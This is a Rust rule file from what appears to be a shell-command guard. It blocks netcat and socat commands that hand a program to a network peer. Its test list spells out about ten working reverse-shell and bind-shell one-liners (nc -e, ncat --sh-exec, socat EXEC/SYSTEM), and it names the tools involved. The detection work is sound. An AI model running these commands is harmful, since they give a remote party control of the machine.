//! A netcat or socat connection that runs a program for the peer:
//! `nc -e /bin/sh h p`, `ncat --sh-exec …`, `socat TCP:h:p EXEC:bash`,
//! `socat TCP-LISTEN:p EXEC:sh` (bind shell).
//!
//! Reads socat's address words, which the IR keeps as text.

use crate::rules::prelude::*;
use crate::rules::shared::transfer::opt_values;

pub(crate) static RULE: Rule = Rule {
    code: "RAC002",
    name: "netcat-exec-shell",
    category: Category::RemoteAccess,
    decision: Decision::Deny,
    commands: &["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "pwncat", "cryptcat", "socat", "sbd", "powercat"],
    summary: "runs a program for whoever is on the other end of a connection",
    why: "Reverse and bind shells hand control of the machine to a remote party.",
    check,
    fires: &[
        "nc -e /bin/sh 10.0.0.1 4444",
        "nc 10.0.0.1 4444 -e /bin/bash",
        "ncat --sh-exec 'bash -i' 10.0.0.1 4444",
        "ncat -lvp 4444 --exec /bin/bash",
        "nc -lp 4444 -c sh",
        "socat tcp-connect:10.0.0.1:4444 exec:/bin/bash,pty,stderr,setsid",
        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh",
        "socat OPENSSL:10.0.0.1:443,verify=0 SYSTEM:sh",
        "sudo nc -e /bin/sh 10.0.0.1 4444",
        "busybox nc 10.0.0.1 4444 -e sh",
    ],
    passes: &["nc -vz localhost 27017", "nc -l 8080", "socat TCP-LISTEN:8080,fork TCP:localhost:3000", "socat - UNIX-CONNECT:/var/run/docker.sock"],
};

fn check(cmd: &Command, _cx: &Context<'_>) -> Option<Hit> {
    if cmd.name == "socat" {
        let addrs: Vec<&Word> = cmd.args.iter().filter(|a| !a.text.starts_with('-') || a.text.len() > 1 && a.text[1..].contains(':')).collect();
        let is = |w: &Word, kinds: &[&str]| {
            let t = w.text.to_ascii_lowercase();
            kinds.iter().any(|k| t.starts_with(k))
        };
        let exec = addrs.iter().find(|w| is(w, &["exec:", "system:", "exec,", "system,"]))?;
        let net = addrs.iter().any(|w| is(w, &["tcp", "udp", "ssl", "openssl", "sctp", "dccp", "socks", "proxy:"]));
        return net.then(|| Hit::on(exec).with_message(format!("`socat` runs `{}` for a network peer", exec.text)));
    }
    let prog = opt_values(cmd, &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"]).into_iter().next()?;
    Some(Hit::on(&prog).with_message(format!("`{}` runs `{}` for a network peer", cmd.name, prog.text)))
}
